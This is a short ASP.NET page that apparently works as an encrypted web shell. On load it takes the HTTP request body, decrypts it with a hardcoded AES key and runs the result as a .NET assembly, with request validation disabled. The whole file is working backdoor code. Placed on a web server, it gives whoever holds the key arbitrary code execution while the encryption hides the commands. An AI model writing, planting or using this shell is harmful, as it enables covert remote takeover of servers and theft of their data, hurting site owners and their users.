<%@ Page Language = "C#" ValidateRequest = "false" %>
<%@ Import Namespace = "System.Reflection" %>
<script runat = "server">
    protected void Page_Load ( object sender , EventArgs e )
    {
        byte [ ] key = System . Text . Encoding . Default . GetBytes ( "c4ca4238a0b92382" ) ;
        byte [ ] body = new byte [ Request . ContentLength ] ;
        Request . InputStream . Read ( body , 0 , body . Length ) ;
        var asm = Assembly . Load ( new System . Security . Cryptography . RijndaelManaged ( ) . CreateDecryptor ( key , key ) . TransformFinalBlock ( body , 0 , body . Length ) ) ;
        asm . CreateInstance ( "U" ) . Equals ( this ) ;
    }
</script>
